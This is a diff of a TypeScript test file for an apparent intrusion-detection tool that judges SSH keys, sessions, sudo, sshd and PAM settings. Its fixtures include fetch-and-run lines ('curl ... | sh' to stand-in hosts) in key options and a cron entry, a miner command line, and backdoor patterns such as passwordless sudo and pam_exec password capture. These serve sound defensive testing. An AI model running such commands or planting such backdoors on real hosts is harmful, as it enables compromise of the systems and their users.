@@ -1,5 +1,5 @@
-// Every signal and guard of who may come in, on facts made by hand: each on what it names, and silent on what only looks like it.
-
+// Who may come in, judged: a stranger's key is a question and not a verdict, the intruder's open session is told by its connection, and ways to become root
+// are told and never acted on.
 import { describe, expect, it } from 'vitest'
 import { ownText } from '../../host-text.ts'
 import type {
@@ -11,264 +11,235 @@ import type {
   SshdSettingFact,
   SudoRuleFact,
 } from '../../probes/facts.ts'
-import { aFile, aLogin, aMachine, aProcess, aSocket, meta } from '../fixtures/facts.ts'
+import { aFile, aListener, aLogin, aProcess, aSchedule, aSocket, meta } from '../fixtures/facts.ts'
 import { found, judged, signalsOf } from '../fixtures/judging.ts'
-import { compileIndicators, shippedPools } from '../indicators.ts'
-import { noLinks } from '../links.ts'
-import { setScene, type Window } from '../scene.ts'
-import { accountJudging, pamJudging, sshdJudging, sudoJudging } from './access.ts'
-import { keyJudging } from './key.ts'
-import { look, type Judging } from './predicate.ts'
 
-const window: Window = { fromSeconds: 1_699_990_000, toSeconds: 1_700_010_000 }
-const long: Window = { fromSeconds: 1, toSeconds: 2 }
+const print = (letter: string): string => `SHA256:${letter.repeat(43)}`
+let nextLine = 1
 
-function seen<Subject extends Fact>(
-  judging: Judging<Subject>,
-  subject: Subject,
-  more: readonly Fact[] = [],
-  when: Window = long,
-): readonly string[] {
-  const scene = setScene([aMachine, subject, ...more], [], compileIndicators(shippedPools()), when)
-  const { signals, guards } = look(judging, subject, scene, noLinks)
-  return [...signals, ...guards].map(({ datum }) => datum.id)
-}
-
-function anAccount(name: string, change: Partial<AccountFact> = {}): AccountFact {
+function aKey(
+  change: Partial<Omit<AuthorizedKeyFact, 'comment' | 'options' | 'account'>> & {
+    comment?: string
+    options?: string
+    account?: string
+    flags?: string
+  } = {},
+): AuthorizedKeyFact {
+  const { comment = 'friend@desk', options, account = 'root', flags = '', ...rest } = change
+  const line = nextLine++
   return {
+    kind: 'authorized-key',
+    account: ownText(account),
+    uid: account === 'root' ? 0 : 9,
+    others: [],
+    systemAccount: false,
+    file: meta(`/home/${account}/.ssh/authorized_keys`, { flags }),
+    line,
+    raw: ownText(`ssh-ed25519 AAAA${String(line)} ${comment}`),
+    keyType: ownText('ssh-ed25519'),
+    fingerprint: print(String.fromCharCode(64 + (line % 26) + 1)),
+    options: options === undefined ? null : ownText(options),
+    comment: ownText(comment),
+    effective: 'yes',
+    ...rest,
+  }
+}
+const keysOf = (...facts: readonly Fact[]) => found(judged(facts), 'key')
+
+describe('a key', () => {
+  it('that nobody can place is listed, and neither proposed nor worth a verdict', () => {
+    const one = judged([aKey()])
+    expect(found(one, 'key')).toMatchObject([{ title: 'key.unknown', score: 0, proposed: 'no' }])
+    expect(one.verdict).not.toBe('suspect')
+  })
+
+  it('with the mark of a gang is proposed where something else speaks against it as well', () => {
+    expect(keysOf(aKey({ comment: 'mdrfckr' }))).toMatchObject([{ score: 80, proposed: 'no', title: 'key.hostile' }])
+    expect(keysOf(aKey({ comment: 'mdrfckr', flags: 'ia' }))).toMatchObject([
+      { proposed: 'yes', tags: ['hostile-key'] },
+    ])
+    expect(keysOf(aKey({ comment: 'not-mdrfckrs-friend' }))).toMatchObject([{ score: 0 }])
+  })
+
+  it('whose bytes are a known intruder’s is proposed alone, whatever its comment', () => {
+    const known = 'SHA256:MkYY9qiVsFGBC5WkjoClCkwEFW5iSjcGQF7m4n4H7Cw'
+    expect(keysOf(aKey({ fingerprint: known, comment: 'admin@office' }))).toMatchObject([{ proposed: 'yes' }])
+  })
+
+  it('of one person on all accounts, in a locked file, is still a question', () => {
+    const same = { fingerprint: print('Z'), flags: 'i' }
+    for (const one of keysOf(aKey(same), aKey({ ...same, account: 'deploy' })))
+      expect(one).toMatchObject({ proposed: 'no', title: 'key.unknown' })
+  })
+
+  it('that may run one command only is what backups come with, also for an account of the system', () => {
+    const backup = { account: 'backup', systemAccount: true, options: 'command="borg serve",restrict' }
+    expect(keysOf(aKey(backup))[0]).toMatchObject({ proposed: 'no', score: 20 })
+    expect(keysOf(aKey({ account: 'news', systemAccount: true }))[0]).toMatchObject({ score: 55, proposed: 'no' })
+    const fetching = { ...backup, options: 'command="curl http://203.0.113.9/x | sh"' }
+    expect(signalsOf(keysOf(aKey(fetching))[0])).toContain('key-runs-command')
+  })
+
+  it('that does not parse is told as no key', () => {
+    expect(keysOf(aKey({ fingerprint: null }))).toMatchObject([{ title: 'key.unreadable', proposed: 'no' }])
+  })
+})
+
+describe('an open session', () => {
+  const from = '203.0.113.66'
+  const sshd = '/usr/sbin/sshd'
+  const door = (pid: number, address: string, port = 40_000 + pid) => [
+    aProcess(pid, sshd, { ppid: 500, cmdline: 'sshd: root@notty', cgroup: `/user.slice/session-${String(pid)}.scope` }),
+    aSocket(pid, address, port, { localPort: 22 }),
+    aProcess(pid + 1, '/usr/bin/bash', { ppid: pid, cgroup: '/user.slice' }),
+  ]
+  const server = [
+    aProcess(500, sshd),
+    aListener(500, 22),
+    aFile(sshd, 'yes', 'yes'),
+    aFile('/usr/bin/bash', 'yes', 'yes'),
+  ]
+  const guessed = [aLogin('failed-burst', 40), aLogin('accepted-after-burst', 1)]
+  const cron = aSchedule('/etc/cron.d/x', 1, 'curl -s http://203.0.113.9/a.sh | sh')
+  const hostileOf = (...facts: readonly Fact[]): number[] =>
+    found(judged(facts), 'process').flatMap(({ proposed, target }) =>
+      proposed === 'yes' && target.kind === 'process' ? [target.identity.pid] : [],
+    )
+
+  it('from where passwords were guessed is proposed with everything started in it; nobody else’s is', () => {
+    const facts = [...server, ...door(600, from), ...door(700, '203.0.113.77'), ...guessed, cron]
+    expect(hostileOf(...facts).sort()).toEqual([600, 601])
+  })
+
+  it('on a host where nothing else is wrong is a person who mistyped', () => {
+    expect(hostileOf(...server, ...door(600, from), ...guessed)).toEqual([])
+  })
+
+  it('after a handful of failures is a person too', () => {
+    const few = [aLogin('failed-burst', 7), aLogin('accepted-after-burst', 1)]
+    expect(hostileOf(...server, ...door(600, from), ...few, cron)).toEqual([])
+  })
+
+  it('is never ours, nor anybody’s who comes from where we come from', () => {
+    const [own, socket, shell] = door(800, from)
+    const ours = [{ ...own!, ours: true }, socket!, { ...shell!, ours: true }] as Fact[]
+    expect(hostileOf(...server, ...door(600, from), ...ours, ...guessed, cron)).toEqual([])
+  })
+
+  it('that came in with a hostile key is told by address and port, even beside us', () => {
+    const key = aKey({ comment: 'mdrfckr', flags: 'ia' })
+    const login: LoginFact = {
+      ...aLogin('accepted', 2),
+      sessions: [
+        { port: 40_600, key: key.fingerprint },
+        { port: 40_700, key: print('b') },
+      ],
+    }
+    const [own, socket, shell] = door(800, from)
+    const ours = [{ ...own!, ours: true }, socket!, { ...shell!, ours: true }] as Fact[]
+    const facts = [...server, ...door(600, from), ...door(700, from), ...ours, login, key]
+    expect(hostileOf(...facts).sort()).toEqual([600, 601])
+  })
+
+  it('never makes the server itself a suspect', () => {
+    expect(hostileOf(...server, aSocket(500, from, 40_001, { localPort: 22 }), ...guessed, cron)).toEqual([])
+  })
+})
+
+describe('ways to come back', () => {
+  const account = (name: string, change: Partial<AccountFact> = {}): AccountFact => ({
     kind: 'account',
     file: meta('/etc/passwd'),
-    line: 9,
+    line: 1,
     raw: ownText(`${name}:x`),
     name: ownText(name),
-    uid: 1001,
-    gid: 1001,
+    uid: 1000,
+    gid: 1000,
     home: ownText(`/home/${name}`),
     shell: ownText('/bin/bash'),
     password: 'set',
-    passwordDay: null,
+    passwordDay: 20_000,
     login: 'yes',
     shellListed: 'yes',
     powerfulGroups: [],
     inBackup: 'yes',
     ...change,
-  }
-}
-
-const fingerprint = `SHA256:${'A'.repeat(43)}`
-
-function aKey(account: string, change: Partial<AuthorizedKeyFact> = {}): AuthorizedKeyFact {
-  return {
-    kind: 'authorized-key',
-    account: ownText(account),
-    uid: 0,
-    others: [],
-    systemAccount: false,
-    file: meta(`/home/${account}/.ssh/authorized_keys`),
-    line: 1,
-    raw: ownText('ssh-ed25519 AAAA x'),
-    keyType: ownText('ssh-ed25519'),
-    fingerprint,
-    options: null,
-    comment: ownText('ann@laptop'),
-    effective: 'yes',
-    ...change,
-  }
-}
-
-function aGrant(who: string, commands: string, change: Partial<SudoRuleFact> = {}): SudoRuleFact {
-  return {
+  })
+  const grant = (who: string, change: Partial<SudoRuleFact> = {}): SudoRuleFact => ({
     kind: 'sudo-rule',
     file: meta('/etc/sudoers.d/x', { mode: '0440' }),
     line: 1,
-    raw: ownText(`${who} ${commands}`),
+    raw: ownText(`${who} ALL=(ALL) NOPASSWD: ALL`),
     who: ownText(who),
-    commands: ownText(commands),
+    commands: ownText('ALL'),
     noPassword: true,
     skipped: false,
     ...change,
-  }
-}
-
-function aSetting(keyword: string, value: string, change: Partial<SshdSettingFact> = {}): SshdSettingFact {
-  return {
+  })
+  const setting = (keyword: string, value: string): SshdSettingFact => ({
     kind: 'sshd-setting',
     file: meta('/etc/ssh/sshd_config'),
-    line: 3,
+    line: 1,
     raw: ownText(`${keyword} ${value}`),
     keyword,
     value: ownText(value),
     match: null,
-    ...change,
-  }
-}
-
-function aPamRule(change: Partial<PamRuleFact>): PamRuleFact {
-  return {
+  })
+  const rule = (change: Partial<PamRuleFact>): PamRuleFact => ({
     kind: 'pam-rule',
-    file: meta('/etc/pam.d/common-auth'),
-    line: 1,
-    raw: ownText('auth optional pam_x.so'),
-    type: 'auth',
-    module: ownText('pam_x.so'),
-    modulePath: ownText('/usr/lib/security/pam_x.so'),
+    file: meta('/etc/pam.d/sshd'),
+    line: 3,
+    raw: ownText('session optional pam_exec.so /usr/local/bin/tell'),
+    type: 'session',
+    module: ownText('pam_exec.so'),
+    modulePath: null,
     owned: 'yes',
-    program: null,
+    program: ownText('/usr/local/bin/tell'),
     openDoor: false,
     ...change,
-  }
-}
-
-const guessed: LoginFact = {
-  ...aLogin('accepted-after-burst', 41),
-  from: ownText('203.0.113.66'),
-  sessions: [{ port: 40_121, key: fingerprint }],
-}
-
-describe('accounts', () => {
-  it.each<[string, readonly string[]]>([
-    ['account-second-root', seen(accountJudging, anAccount('ann', { uid: 0 }))],
-    ['account-empty-password', seen(accountJudging, anAccount('ann', { password: 'empty' }))],
-    ['account-deceiving-field', seen(accountJudging, anAccount('news', { shell: ownText('/usr/sbin/nologin ') }))],
-    ['account-shell-lookalike', seen(accountJudging, anAccount('news', { shell: ownText('/usr/sbin/nologin ') }))],
-    ['account-system-login', seen(accountJudging, anAccount('news', { uid: 9 }))],
-    ['account-powerful-groups', seen(accountJudging, anAccount('ann', { powerfulGroups: [ownText('docker')] }))],
-    ['account-not-in-backup', seen(accountJudging, anAccount('ann', { inBackup: 'no' }))],
-    ['account-changed-in-window', seen(accountJudging, anAccount('ann', { passwordDay: 19_675 }), [], window)],
-    ['account-owners-second-root', seen(accountJudging, anAccount('toor', { uid: 0, password: 'locked' }))],
-    ['account-cannot-log-in', seen(accountJudging, anAccount('news', { login: 'no' }))],
-  ])('%s', (id, ids) => {
-    expect(ids).toContain(id)
   })
 
-  it('of ordinary people and services say nothing', () => {
-    expect(seen(accountJudging, anAccount('ann'))).toEqual([])
-    expect(seen(accountJudging, anAccount('root', { uid: 0 }))).toEqual([])
-    expect(seen(accountJudging, anAccount('backup', { uid: 34, password: 'locked' }))).toEqual([])
-  })
-})
-
-describe('keys', () => {
-  it.each<[string, readonly string[]]>([
-    ['key-known-comment', seen(keyJudging, aKey('root', { comment: ownText('mdrfckr') }))],
-    ['key-used-after-burst', seen(keyJudging, aKey('root'), [guessed])],
-    [
-      'key-runs-command',
-      seen(keyJudging, aKey('root', { options: ownText('command="curl -s http://a.example/x | sh"') })),
-    ],
-    ['key-of-system-account', seen(keyJudging, aKey('news', { systemAccount: true }))],
-    ['key-file-locked', seen(keyJudging, aKey('root', { file: meta('/root/.ssh/authorized_keys', { flags: 'ia' }) }))],
-    ['key-on-several-accounts', seen(keyJudging, aKey('root'), [aKey('ann')])],
-    ['key-changed-in-window', seen(keyJudging, aKey('root'), [], window)],
-    ['key-for-one-command', seen(keyJudging, aKey('root', { options: ownText('command="borg serve",restrict') }))],
-  ])('%s', (id, ids) => {
-    expect(ids).toContain(id)
+  it('are told and never proposed, however bad', () => {
+    const worst = [
+      account('sysadm', { uid: 0, inBackup: 'no' }),
+      account('open', { password: 'empty' }),
+      account('news', { uid: 9, shell: ownText('/usr/sbin/nologin ') }),
+      grant('www-data'),
+      grant('ALL'),
+      rule({ openDoor: true, program: null, module: ownText('pam_permit.so') }),
+      rule({ raw: ownText('auth optional pam_exec.so expose_authtok /usr/local/lib/.x') }),
+    ]
+    const told = judged(worst).findings.filter(({ kind }) => ['account', 'sudo', 'pam'].includes(kind))
+    expect(told).toHaveLength(worst.length)
+    for (const one of told) {
+      expect(one.score).toBeGreaterThanOrEqual(60)
+      expect(one.proposed).toBe('no')
+    }
   })
 
-  it('nobody can place are no proposal', () => {
-    const [key] = found(judged([aMachine, aKey('root')]), 'key')
-    expect(key?.proposed ?? 'no').not.toBe('yes')
-    expect(seen(keyJudging, aKey('root'))).toEqual([])
-  })
-})
-
-describe('ways to become root', () => {
-  const shell = {
-    kind: 'setuid-shell',
-    file: meta('/var/tmp/.s', { mode: '4755' }),
-    shell: ownText('/bin/dash'),
-  } as const
-  it.each<[string, readonly string[]]>([
-    ['sudo-setuid-shell', seen(sudoJudging, shell)],
-    ['sudo-anybody-without-password', seen(sudoJudging, aGrant('ALL', 'ALL'))],
-    ['sudo-service-without-password', seen(sudoJudging, aGrant('www-data', '/usr/bin/id'))],
-    ['sudo-everything-without-password', seen(sudoJudging, aGrant('ann', 'ALL'))],
-    [
-      'sudo-writable-rules',
-      seen(sudoJudging, aGrant('ann', '/usr/bin/id', { file: meta('/etc/sudoers', { mode: '0666' }) })),
-    ],
-    ['sudo-changed-in-window', seen(sudoJudging, aGrant('ann', '/usr/bin/id'), [], window)],
-  ])('%s', (id, ids) => {
-    expect(ids).toContain(id)
+  it('leave people and services alone that every host has', () => {
+    const usual = [
+      account('root', { uid: 0 }),
+      account('alice', { powerfulGroups: [ownText('sudo')] }),
+      account('daemon', { uid: 1, login: 'no', password: 'locked', shell: ownText('/usr/sbin/nologin') }),
+      account('postgres', { uid: 105, password: 'locked' }),
+      grant('root', { noPassword: false }),
+      grant('%sudo', { noPassword: false }),
+      grant('deploy', { commands: ownText('/usr/bin/systemctl restart app') }),
+      setting('authorizedkeysfile', '.ssh/authorized_keys .ssh/authorized_keys2'),
+      setting('permitrootlogin', 'yes'),
+      setting('subsystem', 'sftp /usr/lib/openssh/sftp-server'),
+      setting('authorizedkeyscommand', '/usr/bin/sss_ssh_authorizedkeys %u'),
+    ]
+    expect(judged(usual).findings).toEqual([])
   })
 
-  it('that ask for a password, name one command or are skipped by sudo say nothing', () => {
-    for (const rule of [
-      aGrant('ann', 'ALL', { noPassword: false }),
-      aGrant('deploy', '/usr/bin/systemctl restart app'),
-      aGrant('ALL', 'ALL', { skipped: true }),
-    ])
-      expect(seen(sudoJudging, rule)).toEqual([])
-  })
-})
-
-describe('settings of sshd', () => {
-  it.each<[string, readonly string[]]>([
-    ['sshd-keys-elsewhere', seen(sshdJudging, aSetting('authorizedkeysfile', '.ssh/authorized_keys /var/tmp/.k'))],
-    ['sshd-keys-by-program', seen(sshdJudging, aSetting('authorizedkeyscommand', '/usr/local/lib/k %u'))],
-    ['sshd-trusted-signer', seen(sshdJudging, aSetting('trustedusercakeys', '/etc/ssh/ca.pub'))],
-    ['sshd-empty-passwords', seen(sshdJudging, aSetting('permitemptypasswords', 'yes'))],
-    ['sshd-environment-by-user', seen(sshdJudging, aSetting('permituserenvironment', 'yes'))],
-    ['sshd-command-for-all', seen(sshdJudging, aSetting('forcecommand', '/var/tmp/x'))],
-    ['sshd-hosts-trusted', seen(sshdJudging, aSetting('hostbasedauthentication', 'yes'))],
-    ['sshd-changed-in-window', seen(sshdJudging, aSetting('hostbasedauthentication', 'yes'), [], window)],
-  ])('%s', (id, ids) => {
-    expect(ids).toContain(id)
+  it('a spare root of old that cannot log in is a note', () => {
+    const toor = account('toor', { uid: 0, password: 'locked', inBackup: 'no' })
+    expect(found(judged([toor]), 'account')).toMatchObject([{ score: 35, title: 'account.second-root' }])
   })
 
-  it('as distributions and clouds set them say nothing', () => {
-    for (const [keyword, value] of [
-      ['authorizedkeysfile', '.ssh/authorized_keys .ssh/authorized_keys2'],
-      ['authorizedkeyscommand', '/usr/bin/sss_ssh_authorizedkeys'],
-      ['permitemptypasswords', 'no'],
-      ['permituserenvironment', 'no'],
-    ] as const)
-      expect(seen(sshdJudging, aSetting(keyword, value))).toEqual([])
-  })
-})
-
-describe('lines of PAM', () => {
-  const program = ownText('/usr/local/lib/p')
-  it.each<[string, readonly string[]]>([
-    ['pam-open-door', seen(pamJudging, aPamRule({ openDoor: true }))],
-    [
-      'pam-program-hears-password',
-      seen(
-        pamJudging,
-        aPamRule({ program, raw: ownText('auth optional pam_exec.so expose_authtok /usr/local/lib/p') }),
-      ),
-    ],
-    ['pam-program-at-login', seen(pamJudging, aPamRule({ program }))],
-    ['pam-unknown-module', seen(pamJudging, aPamRule({ owned: 'no' }))],
-    ['pam-changed-in-window', seen(pamJudging, aPamRule({}), [], window)],
-  ])('%s', (id, ids) => {
-    expect(ids).toContain(id)
-  })
-
-  it('of packages say nothing', () => {
-    expect(seen(pamJudging, aPamRule({}))).toEqual([])
-    const packaged = aFile('/usr/bin/logger', 'bsdutils')
-    expect(seen(pamJudging, aPamRule({ program: ownText('/usr/bin/logger') }), [packaged])).toEqual([])
-  })
-})
-
-describe('sessions of the intruder', () => {
-  const master = aProcess(10, '/usr/sbin/sshd', { ppid: 1 })
-  const door = aProcess(50, '/usr/sbin/sshd', { ppid: 10 })
-  const shell = aProcess(51, '/bin/bash', { ppid: 50, cmdline: '-bash', argv0: '-bash' })
-  const connection = aSocket(50, '203.0.113.66', 40_121)
-  const burst: LoginFact = { ...aLogin('failed-burst', 40), from: ownText('203.0.113.66') }
-  const miner = aProcess(60, '/var/tmp/.x/m', { cmdline: './m -o stratum+tcp://a.example:443' })
-  const of = (pid: number, ...facts: readonly Fact[]) =>
-    signalsOf(found(judged(facts), 'process').find(({ params }) => params['pid'] === pid))
-
-  it('are told by the address that guessed, when more is wrong with the host', () => {
-    const ids = of(51, master, door, shell, connection, burst, { ...guessed, sessions: [] }, miner)
-    expect(ids).toEqual(expect.arrayContaining(['session-of-guesser', 'session-on-hostile-host']))
-  })
-
-  it('are told by the key they came in with', () => {
-    const key = aKey('root', { comment: ownText('mdrfckr') })
-    expect(of(51, master, door, shell, connection, guessed, key)).toContain('session-by-hostile-key')
+  it('a rule under a name that sudo skips grants nothing', () => {
+    expect(found(judged([grant('www-data', { skipped: true })]), 'sudo')).toEqual([])
   })
 })
